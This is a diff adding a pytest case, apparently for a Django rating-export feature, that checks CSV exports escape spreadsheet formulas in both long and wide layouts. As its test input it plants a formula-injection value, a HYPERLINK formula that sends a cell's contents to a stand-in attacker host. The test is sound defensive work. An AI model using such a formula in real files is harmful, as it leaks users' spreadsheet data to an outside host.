@@ -94,6 +94,18 @@ def test_a_ratings_export_runs_as_a_job_and_downloads(staff, study, settings, tm
     assert {(row["rater"], row["score"]) for row in rows} == {("ann", "9"), ("ann", "5"), ("judge-x", "7")}
 
 
+@pytest.mark.parametrize("layout", ["long", "wide"])
+def test_a_ratings_export_job_writes_a_formula_reason_as_text(staff, study, settings, tmp_path, layout):
+    settings.MEDIA_ROOT = tmp_path
+    reason = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+    Rating.objects.filter(rater="ann", trajectory_id="t1").update(reason=reason)
+    staff.post(reverse("annotation:study_export", args=[study.pk]), {"kind": "ratings_export", "layout": layout})
+    response = staff.get(reverse("annotation:job_download", args=[Job.objects.get().pk]))
+    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode(), newline="")))
+    cells = [cell for row in rows for cell in row]
+    assert "'" + reason in cells and reason not in cells
+
+
 def test_a_running_job_keeps_polling_and_a_bad_request_says_why(staff, study):
     job = Job.objects.create(
         kind=Job.Kind.JUDGE, rubric_id="legalworld16", study=study, status=Job.Status.RUNNING, done=1, total=4
